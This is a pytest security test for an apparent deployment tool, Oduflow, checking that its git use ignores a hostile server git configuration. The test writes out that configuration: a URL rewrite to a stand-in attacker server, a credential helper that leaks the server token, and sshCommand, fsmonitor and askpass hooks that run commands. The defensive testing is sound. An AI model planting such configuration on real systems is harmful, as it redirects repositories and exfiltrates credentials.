"""Attack: the server's own git configuration and environment serve every team. The server's
``~/.gitconfig`` (and XDG and system configuration, and ``GIT_*`` variables) holds a URL rewrite
to an internal server, a credential helper handing out the server's own token, redirects on,
and commands (``core.sshCommand``, ``GIT_SSH_COMMAND``, ``GIT_ASKPASS``) that would run.

The control shows a plain git with this environment obeys all of it; Oduflow's git ignores it:
the internal server sees nothing, no command runs, the server's token is never sent, and a team
gets in with its own credentials only."""

from __future__ import annotations

import base64
import os
import subprocess
from pathlib import Path

import pytest

from oduflow import git
from oduflow.app import App
from oduflow.errors import StepError
from tests.docker.odoo_env import TEAM, call
from tests.docker.test_environments import leftovers
from tests.fixtures.instance import Instance
from tests.security.netservers import GitHttpServer, make_bare_repo, restricted_app

SERVER_TOKEN = ("server-user", "server-token-7f3a")
TEAM_TOKEN = ("team-user", "team-token-91c2")


def hostile_config(tmp: Path, good: GitHttpServer, evil: GitHttpServer) -> str:
    marker = tmp / "pwned"
    return (
        f'[url "{evil.url()}"]\n\tinsteadOf = {good.url()}\n'
        f'[credential]\n\thelper = "!f() {{ touch {marker}-helper; echo username={SERVER_TOKEN[0]}; '
        f'echo password={SERVER_TOKEN[1]}; }}; f"\n'
        f"[core]\n\tsshCommand = touch {marker}-ssh\n\tfsmonitor = touch {marker}-fsmonitor\n"
        f"[http]\n\tfollowRedirects = true\n\tsslVerify = false\n[protocol]\n\tallow = always\n"
    )


def sent_credentials(server: GitHttpServer) -> set[tuple[str, str]]:
    found = set()
    for request in server.requests:
        header = request.headers.get("Authorization", "")
        if header.startswith("Basic "):
            user, _, password = base64.b64decode(header[6:]).decode().partition(":")
            found.add((user, password))
    return found


@pytest.fixture
def hostile_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The server process's HOME, XDG and system git configuration, and its environment."""
    home = tmp_path / "home"
    (home / ".config" / "git").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.setenv("GIT_CONFIG_SYSTEM", str(home / "system-gitconfig"))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", "'http.followredirects'='true'")
    monkeypatch.setenv("GIT_SSH_COMMAND", f"touch {tmp_path / 'pwned'}-env-ssh")
    askpass = tmp_path / "askpass.sh"
    askpass.write_text(f"#!/bin/sh\ntouch {tmp_path / 'pwned'}-askpass\necho {SERVER_TOKEN[1]}\n")
    askpass.chmod(0o755)
    monkeypatch.setenv("GIT_ASKPASS", str(askpass))
    return home


def test_the_servers_git_configuration_is_ignored(
    app: App, instance: Instance, tmp_path: Path, hostile_home: Path
) -> None:
    make_bare_repo(tmp_path)
    with (
        GitHttpServer(root=tmp_path, auth=TEAM_TOKEN) as good,
        GitHttpServer(host="127.0.0.2", root=tmp_path, auth=SERVER_TOKEN) as evil,
    ):
        config = hostile_config(tmp_path, good, evil)
        for path in (hostile_home / ".gitconfig", hostile_home / ".config/git/config"):
            path.write_text(config)
        (hostile_home / "system-gitconfig").write_text(config)
        url = good.url("repo.git")

        # the control: a plain git of this server process follows the rewrite and hands out the token
        plain = subprocess.run(["git", "ls-remote", url], capture_output=True, text=True, env=os.environ)
        assert plain.returncode == 0 and sent_credentials(evil) == {SERVER_TOKEN}
        assert sorted(p.name for p in tmp_path.glob("pwned*")) == ["pwned-helper"]
        for p in tmp_path.glob("pwned*"):
            p.unlink()
        evil.requests.clear()

        guarded = restricted_app(app, "127.0.0.1")
        with pytest.raises(StepError) as err:
            call(guarded, "create_environment", branch_name="cfg-attack", template_name="none",
                 repo_url=url, odoo_image=instance.odoo_image)  # fmt: skip
        assert err.value.step == "clone repository" and "needs credentials" in str(err.value)
        assert leftovers(app, "cfg-attack", "cfg-attack") == []

        # the team's own credentials work, and only they are sent
        team_url = url.replace("http://", f"http://{TEAM_TOKEN[0]}:{TEAM_TOKEN[1]}@")
        access = git.GitAccess(git.team_access(guarded, guarded.config.team(TEAM)).policy, tmp_path / "team")
        assert git.clone_branch(team_url, "main", tmp_path / "ws" / "repo", access) is False
        assert (tmp_path / "ws" / "repo" / "README.md").is_file()
        assert sent_credentials(good) == {TEAM_TOKEN}

    assert not evil.requests, "the internal server was reached"
    assert list(tmp_path.glob("pwned*")) == [], "a command of the server's configuration ran"
    assert SERVER_TOKEN not in sent_credentials(good)
